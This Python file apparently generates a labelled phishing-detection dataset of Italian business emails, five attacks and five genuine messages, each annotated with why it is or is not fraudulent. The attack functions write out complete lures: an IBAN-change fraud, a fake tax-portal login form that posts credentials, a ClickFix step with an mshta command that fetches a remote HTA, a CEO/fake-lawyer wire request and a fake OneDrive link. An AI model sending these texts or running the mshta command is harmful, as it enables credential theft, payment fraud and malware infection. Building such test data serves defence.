"""Italian messages (Genova office): 5 attacks, 5 genuine."""
import codes as K
import company as C
import files as F
import infra as I
from common import alt, esc, fmt_eur_de, gmail_html, ol_quote, outlook_alt, simple_html
from company import S
from mime import Msg, T, Part, att, html, mp, text

E = fmt_eur_de
FERR_SIG = ('Ferretti Trasporti S.p.A.\nVia Ponte Carrega 41 - 16141 Genova\nTel. +39 010 835 1120\n'
            'Cap. Soc. € 1.200.000 i.v. - P.IVA %s - REA GE-418833' % C.FERR['piva'])


def aruba(m, t, rcpt, client_ip='93.41.202.118'):
    m.hop('from [192.168.1.%d] ([%s])\n\tby Aruba Outgoing Smtp  with ESMTPSA\n\tid %s; %s'
          % (m.rng.randrange(20, 200), client_ip, m.alnum(22, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'), (t + 1).rfc()))
    n = m.rng.randrange(20, 90)
    m.mx('smtpcmd%04d.aruba.it' % (800 + n), '62.149.156.%d' % n, t + 2, rcpt, rdns='smtpcmd%04d.aruba.it' % (800 + n))


# ================================================================ ATTACKS
def a01(n):
    m = Msg('attack', n, 'it', 'ferretti-variazione-iban-lookalike',
            what='"Ferretti Trasporti - Amministrazione" communicates new bank details from 01/11 and asks to pay '
                 'invoices 2026/1842 and 2026/1907 to the new IBAN; letter as PDF',
            why='Carrier bank-detail fraud from look-alike domain ferretti-trasporti.com (real: .it) on a '
                'DigitalOcean droplet; new IBAN at an e-money institution; pressure ("old transfers will be '
                'rejected", "annulla e sostituisce"), confirmation by e-mail only',
            tech=['supplier bank-detail change (vendor email compromise)', 'look-alike domain (.com for .it)', 'PDF letter'])
    t = T('2026-10-26 11:48:20', 'IT')
    to = S('it_acc')
    frm = ('Ferretti Trasporti S.p.A. - Amministrazione', 'amministrazione@ferretti-trasporti.com')
    m.env_from = frm[1]
    m.hop('from [172.16.0.14] (unknown [146.70.119.%d])\n\t(Authenticated sender: amministrazione@ferretti-trasporti.com)\n\tby mail.ferretti-trasporti.com (Postfix) with ESMTPSA id 4bHz8v2kLwz9sQ1'
          '\n\tfor <%s>; %s' % (m.rng.randrange(2, 250), to[1], (t + 1).rfc(comment=True)))
    I.vps(m, t + 1, to[1], helo='mail.ferretti-trasporti.com', ip='164.92.218.37', rdns='mail.ferretti-trasporti.com')
    I.outlook_desktop(m, t, 'ferretti-trasporti.com', 'it')
    m.std(t, frm, [to], 'Comunicazione variazione coordinate bancarie - Ferretti Trasporti S.p.A.',
          cc=[('Chiara Colombo', 'c.colombo@ferretti-trasporti.com')], cs='windows-1252', enc='Q')
    body = """Spett.le Example Group Italia S.r.l.
alla c.a. Ufficio Amministrazione

con la presente Vi comunichiamo che, a seguito della riorganizzazione della tesoreria di gruppo, a far data dal 01/11/2026 le coordinate bancarie per il pagamento delle nostre fatture sono variate come segue:

Beneficiario: Ferretti Trasporti S.p.A.
IBAN: %s
Causale: numero fattura

Vi preghiamo pertanto di aggiornare le Vostre anagrafiche fornitori e di disporre il pagamento delle fatture n. 2026/1842 del 30/09/2026 (€ 4.392,00) e n. 2026/1907 del 15/10/2026 (€ 2.818,40) direttamente sul nuovo conto. Eventuali bonifici disposti sulle vecchie coordinate verranno respinti dalla banca e potrebbero causare ritardi nei ritiri programmati.

Vi chiediamo cortesemente di confermarci via e-mail l'avvenuto aggiornamento. La presente comunicazione annulla e sostituisce ogni precedente indicazione.

In allegato la comunicazione ufficiale firmata dalla Direzione Amministrativa.

Cordiali saluti

Ufficio Amministrazione
%s
""" % (K.fmt_iban(C.FERR_IBAN_FAKE), FERR_SIG)
    pdf = F.pdf([('h', 'Ferretti Trasporti S.p.A.'), ('s', 'Via Ponte Carrega 41 - 16141 Genova - P.IVA %s' % C.FERR['piva']), '',
                 'Genova, 23/10/2026', '', 'Spett.li Clienti', '',
                 ('b', 'Oggetto: variazione coordinate bancarie'), '',
                 'Si comunica che dal 01/11/2026 tutti i pagamenti a favore di Ferretti Trasporti S.p.A.',
                 'dovranno essere effettuati esclusivamente sul seguente conto corrente:', '',
                 'IBAN: %s' % K.fmt_iban(C.FERR_IBAN_FAKE), '',
                 'Le precedenti coordinate bancarie non sono più valide.', '',
                 'Distinti saluti', '', 'Il Direttore Amministrativo', 'Dott. Paolo Ferretti'],
                title='Variazione coordinate', author='Amministrazione', creator='Microsoft Word',
                producer='Microsoft: Print To PDF', date="20261023160210+02'00'")
    m.body = mp('mixed', outlook_alt(body, 'windows-1252', 'quoted-printable', 'IT'),
                att('application/pdf', pdf, 'Comunicazione_variazione_IBAN.pdf'))
    return m


def a02(n):
    form_url = 'https://fatture-sdi-esiti.com/ricevuta/auth.php'
    m = Msg('attack', n, 'it', 'sdi-notifica-scarto-allegato-html',
            what='"Sistema di Interscambio": e-invoice file rejected (error 00305), open the attached receipt and '
                 'log in to re-transmit within 5 days',
            why='Credential phishing on the Italian e-invoicing system: HTML attachment is a fake "Fatture e '
                'Corrispettivi" login form posting e-mail and password to fatture-sdi-esiti.com; SdI sends XML '
                'receipts via PEC/channel, never HTML login pages; sent by PHPMailer from a compromised web host',
            tech=['HTML attachment credential phishing', 'tax authority / e-invoicing lure (SdI)', 'compromised website mailer'])
    t = T('2026-11-03 09:26:11', 'IT')
    to = S('it_acc')
    frm = ('Agenzia delle Entrate - Sistema di Interscambio', 'notifiche-sdi@officinegrafichebrembo.it')
    m.env_from = 'www-data@lamp7.hostingsolutions.it'
    I.php_webhost(m, t, to[1], server='lamp7.hostingsolutions.it', ip='89.46.104.%d' % 177)
    I.phpmailer(m, 'officinegrafichebrembo.it', '6.5.0')
    fn = 'IT%s_a3K9x.xml' % C.EG_PIVA
    m.std(t, frm, [to], 'Notifica di scarto - File %s - Codice errore 00305' % fn, cs='UTF-8', enc='B')
    body = """Gentile contribuente,

il Sistema di Interscambio ha scartato il file fattura %s trasmesso il 02/11/2026 per il seguente motivo:

Codice errore: 00305 - IdFiscaleIVA del CessionarioCommittente non valido
Numero fattura: 2026/0891 - Data: 30/10/2026 - Importo: € 12.604,50

La fattura si intende non emessa. Per evitare le sanzioni previste dall'art. 6 del D.Lgs. 471/97 la fattura deve essere corretta e ritrasmessa entro 5 giorni dalla data della presente notifica.

In allegato la ricevuta di scarto. Per visualizzarla e accedere alla funzione di ritrasmissione, apra il file allegato ed effettui l'accesso con le credenziali aziendali.

Agenzia delle Entrate
Sistema di Interscambio - Fatture e Corrispettivi

Messaggio generato automaticamente, si prega di non rispondere.
""" % fn
    page = """<!DOCTYPE html>
<html lang="it"><head><meta charset="utf-8"><title>Fatture e Corrispettivi - Ricevuta di scarto</title>
<style>body{font-family:"Titillium Web",Arial,sans-serif;background:#f5f5f0;margin:0}.hd{background:#0066cc;color:#fff;padding:14px 24px;font-size:20px}
.bx{max-width:420px;margin:40px auto;background:#fff;padding:28px;border:1px solid #ddd}label{display:block;font-size:14px;margin:12px 0 4px}
input{width:100%%;padding:9px;border:1px solid #999;box-sizing:border-box}button{margin-top:18px;background:#0066cc;color:#fff;border:0;padding:10px 20px;font-size:15px}</style></head>
<body><div class="hd">Agenzia delle Entrate &middot; Fatture e Corrispettivi</div>
<div class="bx"><h2 style="font-size:18px">Ricevuta di scarto %s</h2>
<p style="font-size:13px;color:#444">Documento protetto. Per visualizzare la ricevuta e ritrasmettere la fattura, acceda con le credenziali della casella aziendale.</p>
<form method="post" action="%s">
<input type="hidden" name="ref" value="%s">
<label for="u">E-mail aziendale</label><input id="u" name="login" type="email" value="marco.esposito@example.com">
<label for="p">Password</label><input id="p" name="passwd" type="password">
<button type="submit">Visualizza ricevuta</button></form>
<p style="font-size:11px;color:#777;margin-top:24px">&copy; Agenzia delle Entrate - Sistema di Interscambio</p></div></body></html>
""" % (fn, form_url, fn)
    a = att('text/html', page.encode('utf-8'), 'RicevutaScarto_%s.html' % fn[:-4], charset='utf-8')
    a.note = 'static login form posting to %s, no script' % form_url
    m.body = mp('mixed', text(body, 'UTF-8', 'quoted-printable'), a)
    return m


def a03(n):
    cmd = 'mshta https://verifica.salonenautico-areariservata.it/cf/captcha.hta # Verifica umana - ID 4821-GE'
    m = Msg('attack', n, 'it', 'clickfix-salone-nautico-verifica',
            what='"Salone Nautico di Genova - Area Espositori": stand 2027 pre-assigned, to download the contract '
                 'complete a "security check" by pasting a code into Windows+R',
            why='ClickFix: the "verification code" is an mshta command fetching a remote HTA from '
                'salonenautico-areariservata.it (not the organiser\'s domain); no legitimate site asks users to '
                'run commands; sent through Brevo from a look-alike domain',
            tech=['ClickFix (paste-and-run command)', 'trade fair lure', 'bulk ESP abuse (Brevo)'])
    t = T('2026-10-14 10:10:42', 'IT')
    to = S('it_mgr')
    frm = ('Salone Nautico Internazionale di Genova - Area Espositori', 'espositori@salonenautico-areariservata.it')
    I.brevo(m, t, to[1], sender_dom='salonenautico-areariservata.it')
    m.std(t, frm, [to], 'Assegnazione area espositiva 2027 - conferma richiesta entro il 16/10', cs='UTF-8', enc='B')
    plain = """Gentile Espositore,

La informiamo che la richiesta di partecipazione di Example Group Italia S.r.l. alla 67ª edizione del Salone Nautico Internazionale di Genova (settembre 2027) è stata pre-accettata. L'assegnazione dello stand (Padiglione B, lotto B-214, 48 m²) è subordinata alla conferma del contratto di partecipazione entro il 16/10/2026.

Il contratto è disponibile nell'Area Riservata Espositori. A causa dell'elevato numero di accessi automatici, prima del download è richiesta una verifica di sicurezza:

1. Premere contemporaneamente i tasti Windows + R
2. Incollare (CTRL + V) o digitare il codice di verifica riportato sotto
3. Premere INVIO per completare la verifica

Codice di verifica:
%s

Al termine della verifica il contratto verrà scaricato automaticamente.

Cordiali saluti
Segreteria Espositori
Salone Nautico Internazionale di Genova
""" % cmd
    inner = """<table width="100%%" cellpadding="0" cellspacing="0" style="background:#eef3f8"><tr><td align="center" style="padding:24px">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,sans-serif;color:#1b2a3a">
<tr><td style="background:#002f5f;color:#fff;padding:18px 26px;font-size:20px;letter-spacing:1px">SALONE NAUTICO &middot; GENOVA <span style="font-size:12px;display:block;letter-spacing:0">Area Riservata Espositori</span></td></tr>
<tr><td style="padding:24px 26px;font-size:14px;line-height:21px">
<p>Gentile Espositore,</p>
<p>La informiamo che la richiesta di partecipazione di <b>Example Group Italia S.r.l.</b> alla 67&ordf; edizione del Salone Nautico Internazionale di Genova (settembre 2027) &egrave; stata <b>pre-accettata</b>. L'assegnazione dello stand (Padiglione B, lotto B-214, 48 m&sup2;) &egrave; subordinata alla conferma del contratto di partecipazione <b>entro il 16/10/2026</b>.</p>
<p>A causa dell'elevato numero di accessi automatici, prima del download &egrave; richiesta una verifica di sicurezza:</p>
<table cellpadding="10" style="background:#f4f6f9;border:1px solid #d5dde6;width:100%%;font-size:14px"><tr><td>
<b>1.</b> Premere contemporaneamente i tasti <b>&#8862; Windows + R</b><br>
<b>2.</b> Incollare (<b>CTRL + V</b>) o digitare il codice di verifica<br>
<b>3.</b> Premere <b>INVIO</b> per completare la verifica</td></tr></table>
<p style="margin-top:16px">Codice di verifica:</p>
<p style="font-family:Consolas,monospace;font-size:12px;background:#1e1e1e;color:#9cdcfe;padding:10px;word-break:break-all">%s</p>
<p>Al termine della verifica il contratto verr&agrave; scaricato automaticamente.</p>
<p>Cordiali saluti<br>Segreteria Espositori</p></td></tr></table></td></tr></table>""" % esc(cmd)
    m.body = alt(plain, simple_html(inner, 'UTF-8', 'Salone Nautico'), 'UTF-8', 'base64')
    return m


def a04(n):
    iban = K.it_iban('03268', '01600', '052879451230')
    m = Msg('attack', n, 'it', 'avvocato-operazione-riservata-ceo',
            what='"Avv. Alessandro Conti" says the CEO mandated him for a confidential acquisition and asks the '
                 'Italian accountant to wire a EUR 248,600 deposit to the firm\'s escrow account today; '
                 '"forwarded" CEO mail below',
            why='CEO fraud with fake lawyer: newly registered law-firm domain on a Hetzner server, misuse of MAR '
                'insider rules to impose secrecy (not even the local office manager), same-day payment, no phone '
                'calls; the forwarded CEO mail comes from the look-alike examplegroup-eu.com',
            tech=['CEO fraud / BEC', 'fake lawyer', 'look-alike domain'])
    t = T('2026-11-19 15:35:08', 'IT')
    to = S('it_acc')
    frm = ('Avv. Alessandro Conti', 'a.conti@studiolegaleconti-associati.it')
    m.env_from = frm[1]
    m.hop('from [10.0.2.15] (unknown [185.107.56.%d])\n\t(Authenticated sender: a.conti@studiolegaleconti-associati.it)\n\tby mx.studiolegaleconti-associati.it (Postfix) with ESMTPSA id 4bPq1s0Lk8z7vNm'
          '\n\tfor <%s>; %s' % (m.rng.randrange(2, 250), to[1], (t + 1).rfc(comment=True)))
    I.vps(m, t + 1, to[1], helo='mx.studiolegaleconti-associati.it', ip='116.203.74.19', rdns='static.19.74.203.116.clients.your-server.de')
    I.thunderbird(m, 'studiolegaleconti-associati.it', 'it')
    m.std(t, frm, [to], 'RISERVATO - Operazione straordinaria Example Group - incarico del Dott. Oberländer',
          cs='ISO-8859-15', enc='Q')
    body = """Gentile Dott. Esposito,

mi presento: sono l'Avv. Alessandro Conti dello Studio Legale Conti & Associati di Milano. Il Dott. Klaus Oberländer, Amministratore Delegato del Vostro gruppo, ci ha conferito mandato per assistere Example Group nell'acquisizione di una quota di maggioranza di un distributore nautico italiano.

L'operazione è coperta da accordo di riservatezza e costituisce informazione privilegiata ai sensi del Regolamento (UE) n. 596/2014 (MAR): fino all'annuncio ufficiale non deve essere discussa con nessun collega, compresa la Dott.ssa Rinaldi, né con altre persone della sede di Amburgo diverse dal Dott. Oberländer.

Il Dott. Oberländer mi ha indicato Lei come referente amministrativo per l'Italia. Per la firma del preliminare, prevista domani mattina, è necessario il versamento della caparra confirmatoria sul conto vincolato dello Studio:

Intestatario: Studio Legale Conti & Associati - conto deposito clienti
IBAN: %s
Importo: € 248.600,00
Causale: Caparra rif. Progetto Levante - NDA 11/2026

Le chiedo di disporre il bonifico oggi stesso con valuta odierna e di inviarmi la contabile a questo indirizzo. Per ragioni di riservatezza La prego di non telefonare in sede; il Dott. Oberländer Le conferma l'incarico nel messaggio qui sotto.

Cordiali saluti

Avv. Alessandro Conti
Studio Legale Conti & Associati
Via Fatebenefratelli 22 - 20121 Milano

-------- Messaggio inoltrato --------
Oggetto: Project Levante
Data: Thu, 19 Nov 2026 14:58:12 +0100
Mittente: Klaus Oberländer <k.oberlaender@examplegroup-eu.com>
A: Avv. Alessandro Conti <a.conti@studiolegaleconti-associati.it>

Dear Avvocato Conti,

as agreed, our contact for payments in Italy is Mr Marco Esposito (marco.esposito@example.com). Please send him the instructions for the deposit. Strict confidentiality applies.

Best regards
Klaus Oberländer
CEO, Example Group
""" % K.fmt_iban(iban)
    m.body = text(body, 'ISO-8859-15', '8bit', ctparams='; format=flowed')
    return m


def a05(n):
    url = 'https://onedrive-condivisione.com/:f:/g/personal/nauticadelgolfo_libero_it/EaX9kQ2mT7VNr4pLw1YbZcMBd3sU8?e=Fr7q2K'
    m = Msg('attack', n, 'it', 'thread-hijack-cliente-libero-onedrive',
            what='Customer Nautica del Golfo replies in the complaint thread: return documents and signed credit '
                 'note "shared via OneDrive", link expires in 48 h',
            why='Thread hijack from a genuinely compromised libero.it mailbox: sent from a Nigerian mobile IP '
                '(X-Originating-IP), HTML mail with a "OneDrive" button leading to onedrive-condivisione.com '
                '(credential harvesting); the customer normally writes plain text with photos attached',
            tech=['thread hijack (compromised partner mailbox)', 'reply in thread', 'fake file-share link (OneDrive)', 'credential phishing'])
    t = T('2026-11-30 17:40:05', 'IT')
    to = S('it_mgr')
    frm = C.NGOLFO['russo']
    m.env_from = frm[1]
    I.libero(m, t, to[1], client_ip='102.89.34.17')
    m.std(t, frm, [to], 'Re: Ordine 11/2026 - parabordi e cime: merce arrivata danneggiata',
          irt='<d3b8a01e7f5c4e2a9b61c0f4e7a2d985@EXHH01.corp.example.com>')
    quote = """Il 13/11/2026 09:41, Francesca Rinaldi <francesca.rinaldi@example.com> ha scritto:
> Gentile Sig. Russo,
> ci scusiamo per l'inconveniente. Ritireremo le due bobine da 12 mm con il prossimo passaggio di Ferretti e Le spediremo la cima da 14 mm insieme ai due parabordi sostitutivi. Emetteremo nota di credito per la differenza.
> Cordiali saluti
> Francesca Rinaldi"""
    plain = """Buonasera Francesca,

come d'accordo Le invio la documentazione del reso e la nota di credito firmata. I file sono condivisi tramite OneDrive perché troppo pesanti per la posta.

Visualizza documenti: %s

Il link scade tra 48 ore.

Saluti
Giuseppe Russo
Nautica del Golfo

%s
""" % (url, quote)
    htm = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body><div style="font-family:Arial;font-size:14px">
<p>Buonasera Francesca,</p><p>come d'accordo Le invio la documentazione del reso e la nota di credito firmata. I file sono condivisi tramite OneDrive perché troppo pesanti per la posta.</p>
<table cellpadding="14" style="border:1px solid #d0d0d0;background:#f8f8f8"><tr><td><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20230815.002/assets/item-types/48/folder.png" width="40" height="40" alt=""></td>
<td style="font-family:'Segoe UI',Arial;font-size:14px"><b>Nautica del Golfo - Reso 11-2026</b><br>3 elementi &middot; condiviso da Giuseppe Russo<br><br>
<a href="%s" style="background:#0078d4;color:#fff;padding:8px 18px;text-decoration:none">Apri in OneDrive</a></td></tr></table>
<p>Il link scade tra 48 ore.</p><p>Saluti<br>Giuseppe Russo<br>Nautica del Golfo</p>
<blockquote style="border-left:2px solid #ccc;padding-left:8px;color:#555">%s</blockquote></div></body></html>
""" % (esc(url), esc(quote).replace('\n', '<br>'))
    m.body = alt(plain, htm, 'UTF-8', 'quoted-printable')
    return m


# ================================================================ BUSINESS
def b01(n):
    m = Msg('business', n, 'it', 'ferretti-copia-cortesia-fattura',
            what='Ferretti Trasporti administration sends the courtesy copy (PDF) of invoice 2026/1842 for '
                 'September transport services',
            why='Genuine carrier invoice: real domain via Aruba\'s outgoing SMTP, usual Intesa Sanpaolo IBAN, '
                'original e-invoice went through SdI, amounts consistent',
            pair=(['ferretti-variazione-iban-lookalike'], 'same carrier, same invoice numbers and amounts'))
    t = T('2026-10-01 10:12:30', 'IT')
    to = S('it_acc')
    frm = C.FERR['amm']
    m.env_from = frm[1]
    aruba(m, t, to[1])
    I.roundcube(m, 'ferretti-trasporti.it', '1.6.6')
    m.std(t, frm, [to], 'Ferretti Trasporti S.p.A. - Invio copia di cortesia fattura n. 2026/1842 del 30/09/2026',
          cs='ISO-8859-1', enc='Q')
    body = """Spett.le Example Group Italia S.r.l.,

in allegato trasmettiamo copia di cortesia della fattura n. 2026/1842 del 30/09/2026 relativa ai servizi di trasporto del mese di settembre (tratte Genova - Milano - Verona, 14 spedizioni).

Si ricorda che l'originale della fattura elettronica è stato trasmesso tramite il Sistema di Interscambio ed è disponibile presso il Vostro intermediario.

Imponibile EUR 3.600,00 - IVA 22%% EUR 792,00 - Totale documento EUR 4.392,00
Scadenza: 31/10/2026 - Bonifico bancario
IBAN: %s (Intesa Sanpaolo)

Distinti saluti

Ufficio Amministrazione
%s
""" % (K.fmt_iban(C.FERR_IBAN), FERR_SIG.replace('€', 'EUR'))
    pdf = F.pdf([('h', 'Ferretti Trasporti S.p.A.'), ('s', 'Via Ponte Carrega 41 - 16141 Genova - P.IVA %s' % C.FERR['piva']), '',
                 'Spett.le Example Group Italia S.r.l.', 'Via Antonio Cantore 8 - 16149 Genova', 'P.IVA %s' % C.EG_PIVA, '',
                 ('b', 'Copia di cortesia - Fattura n. 2026/1842 del 30/09/2026'), '',
                 'Servizi di autotrasporto conto terzi - settembre 2026', '14 spedizioni, tratte Genova-Milano / Genova-Verona',
                 'Imponibile: 3.600,00 EUR', 'IVA 22%: 792,00 EUR', ('b', 'Totale documento: 4.392,00 EUR'), '',
                 'Pagamento: bonifico bancario a 30 gg d.f. - scadenza 31/10/2026',
                 'IBAN %s - Intesa Sanpaolo S.p.A.' % K.fmt_iban(C.FERR_IBAN), '',
                 ('s', 'Documento privo di valenza fiscale ai sensi dell\'art. 21 DPR 633/72. L\'originale è disponibile nell\'area riservata.')],
                title='Fattura 2026/1842', author='Ferretti Trasporti', creator='TeamSystem Gamma',
                producer='TeamSystem PDF', date="20261001100511+02'00'")
    m.body = mp('mixed', text(body, 'ISO-8859-1', 'quoted-printable', ctparams='; format=flowed'),
                att('application/pdf', pdf, 'Fattura_2026-1842.pdf'))
    return m


def b02(n):
    m = Msg('business', n, 'it', 'ferretti-sollecito-sospensione-ritiri',
            what='Ferretti\'s traffic office urges payment of two overdue invoices, otherwise pick-ups from the '
                 'Genova warehouse are suspended from 9 December',
            why='Genuine urgent reminder from the real carrier contact: same IBAN as always, even warns about the '
                'fake bank-change e-mails circulating in its name; pressure but no change of payee',
            pair=(['ferretti-variazione-iban-lookalike'], 'same carrier, same overdue invoices, urgency'))
    t = T('2026-12-02 12:31:47', 'IT')
    to = S('it_acc')
    frm = C.FERR['colombo']
    m.env_from = frm[1]
    aruba(m, t, to[1], client_ip='93.41.202.118')
    I.outlook_desktop(m, t, 'ferretti-trasporti.it', 'it')
    m.std(t, frm, [to], 'URGENTE: sollecito pagamento fatture scadute - sospensione ritiri dal 10/12',
          cc=[C.FERR['amm'], S('it_mgr')], cs='windows-1252', enc='Q')
    body = """Buongiorno Dott. Esposito,

Le scrivo perché dal nostro estratto conto risultano ancora aperte le seguenti fatture:

n. 2026/1842 del 30/09/2026 - € 4.392,00 - scaduta il 31/10/2026
n. 2026/1907 del 15/10/2026 - € 2.818,40 - scaduta il 15/11/2026

Mi dispiace doverlo scrivere, ma la nostra direzione ha disposto che, in assenza del pagamento entro martedì 9 dicembre, i ritiri dal Vostro magazzino di Genova Sampierdarena vengano sospesi fino alla regolarizzazione della posizione. Come sa, la settimana prima di Natale è per noi molto piena e vorremmo evitare di dover riprogrammare le Vostre spedizioni.

Le coordinate bancarie sono quelle di sempre (Intesa Sanpaolo, IBAN %s). Se il pagamento è già stato disposto, mi invii pure la contabile e consideri nulla questa mail.

Approfitto per ricordarLe che a fine ottobre sono circolate e-mail false a nome nostro con un IBAN diverso: le nostre coordinate non sono cambiate.

Cordiali saluti

Chiara Colombo
Ufficio Traffico e Clienti
%s
""" % (K.fmt_iban(C.FERR_IBAN), FERR_SIG)
    m.body = outlook_alt(body, 'windows-1252', 'quoted-printable', 'IT')
    return m


def b03(n):
    m = Msg('business', n, 'it', 'intermediario-sdi-fattura-passiva-ricevuta',
            what='The e-invoicing intermediary (DocFlow Italia) notifies that a purchase invoice from Ferretti '
                 'arrived through SdI',
            why='Genuine automated notice from the company\'s SdI intermediary: own mail server, SdI identifier, '
                'no attachment, no login link (explicitly says to use the usual portal address)',
            pair=(['sdi-notifica-scarto-allegato-html'], 'SdI / e-invoicing notification'))
    t = T('2026-10-16 06:03:12', 'IT')
    to = S('it_acc')
    frm = ('DocFlow Italia - Fatturazione elettronica', 'notifiche@docflow-italia.it')
    m.env_from = 'bounce-notifiche@docflow-italia.it'
    m.hop('from app03.docflow-italia.it (app03.priv.docflow-italia.it [10.1.2.13])\n\tby mailout2.docflow-italia.it (Postfix) with ESMTP id 4b%s\n\tfor <%s>; %s'
          % (m.alnum(11), to[1], t.rfc(comment=True)))
    m.mx('mailout2.docflow-italia.it', '185.58.122.%d' % m.rng.randrange(10, 90), t + 2, to[1])
    m.msgid = '<notifica.14872903315.%s@docflow-italia.it>' % m.hexs(12)
    m.std(t, frm, [to], 'Nuova fattura passiva ricevuta: Ferretti Trasporti S.p.A. n. 2026/1907', cs='UTF-8', enc='Q')
    m.hdr('Auto-Submitted', 'auto-generated')
    plain = """Gentile Cliente,

Le segnaliamo che il Sistema di Interscambio ha recapitato una nuova fattura passiva per Example Group Italia S.r.l. (P.IVA %s):

Fornitore: Ferretti Trasporti S.p.A. (P.IVA %s)
Numero: 2026/1907 - Data: 15/10/2026
Importo: € 2.818,40
Identificativo SdI: 14872903315
Data ricezione: 16/10/2026

Il documento è consultabile nel portale DocFlow, sezione Ciclo passivo > Fatture ricevute. Per motivi di sicurezza le nostre notifiche non contengono link di accesso né allegati: acceda al portale dal Suo consueto indirizzo.

Questo messaggio è generato automaticamente, La preghiamo di non rispondere.
DocFlow Italia S.r.l. - Intermediario abilitato SdI
""" % (C.EG_PIVA, C.FERR['piva'])
    inner = '<div style="font-family:Arial,sans-serif;font-size:14px;color:#222;padding:16px;background:#fff">' + \
        ''.join('<p>%s</p>' % esc(p).replace('\n', '<br>') for p in plain.strip().split('\n\n')) + '</div>'
    m.body = alt(plain, simple_html(inner, 'UTF-8', 'DocFlow'), 'UTF-8', '8bit')
    m.bgen = lambda rng, ct: '=_docflow_' + m.hexs(24)
    return m


def b04(n):
    m = Msg('business', n, 'it', 'cliente-reclamo-merce-danneggiata-libero',
            what='Customer Nautica del Golfo (libero.it) complains about punctured fenders and wrong rope '
                 'diameter, asks for credit note or replacement; photo attached',
            why='Genuine complaint from the customer\'s usual consumer mailbox via Libero from an Italian TIM IP, '
                'specific delivery note and items, plain text with photo, no links',
            pair=(['thread-hijack-cliente-libero-onedrive'], 'same sender mailbox and thread'))
    t = T('2026-11-12 18:22:40', 'IT')
    to = S('it_mgr')
    frm = C.NGOLFO['russo']
    m.env_from = frm[1]
    I.libero(m, t, to[1], client_ip='79.20.45.112')
    m.std(t, frm, [to], 'Re: Ordine 11/2026 - parabordi e cime: merce arrivata danneggiata',
          irt='<7c21e9a04b3f4d18a6e25c0b9f3d7e41@EXHH01.corp.example.com>')
    body = """Buonasera,

ho ricevuto oggi la merce dell'ordine 11/2026 (DDT n. 4471 del 10/11) ma ci sono dei problemi:

- 2 parabordi cilindrici 25x85 su 10 sono arrivati bucati, il cartone era schiacciato su un lato (foto allegata);
- la cima da ormeggio è da 12 mm e non da 14 mm come ordinato, 2 bobine da 100 m.

Così non posso venderla ai clienti del cantiere. Vi chiedo di ritirare la cima sbagliata e di emettere nota di credito per i parabordi, oppure di mandarmi i pezzi giusti entro la settimana prossima, perché ho barche in partenza per il rimessaggio.

Aspetto una Vostra risposta.

Giuseppe Russo
Nautica del Golfo
Via Biaggini 12 - 19032 Lerici (SP)
Tel. 0187 965 118
"""
    png = F.logo_png(200, 150, (210, 205, 190), (240, 240, 240))
    m.body = mp('mixed', text(body, 'UTF-8', '8bit'), att('image/png', png, 'parabordi_danneggiati.png'))
    return m


def b05(n):
    m = Msg('business', n, 'it', 'interno-chiusura-ufficio-immacolata',
            what='Genova office manager informs the local team about the office closure on 7-8 December, '
                 'warehouse shifts and the last carrier pick-up',
            why='Genuine internal notice through mail-int01/Exchange to the office distribution list; routine '
                'organisation, no links or requests',
            pair=None)
    t = T('2026-11-24 11:05:19', 'IT')
    to = ('Ufficio Genova', 'it-genova@example.com')
    frm = S('it_mgr')
    m.env_from = frm[1]
    I.internal(m, t, to[1])
    m.clang = 'it-IT'
    m.std(t, frm, [to], "Chiusura ufficio 7 e 8 dicembre - ponte dell'Immacolata e turni magazzino",
          cs='iso-8859-1', enc='Q', order='ftsd')
    body = """Ciao a tutti,

vi ricordo che lunedì 7 e martedì 8 dicembre l'ufficio di Genova resterà chiuso (ponte dell'Immacolata). Il magazzino di Sampierdarena sarà aperto lunedì 7 dalle 8 alle 13 per le spedizioni urgenti: turno Davide e Stefano, come da calendario condiviso.

Ferretti effettuerà l'ultimo ritiro prima del ponte venerdì 4 dicembre alle 15:00: chi ha spedizioni in sospeso me le segnali entro giovedì.

Per le ferie di Natale vi chiedo di inserire le richieste in Personio entro il 30 novembre.

Grazie e buona giornata,
Francesca

Francesca Rinaldi
Office Manager - Example Group Italia S.r.l.
Via Antonio Cantore 8 - 16149 Genova
"""
    m.body = outlook_alt(body, 'iso-8859-1', 'quoted-printable', 'IT')
    return m


ATTACKS = [a01, a02, a03, a04, a05]
BUSINESS = [b01, b02, b03, b04, b05]
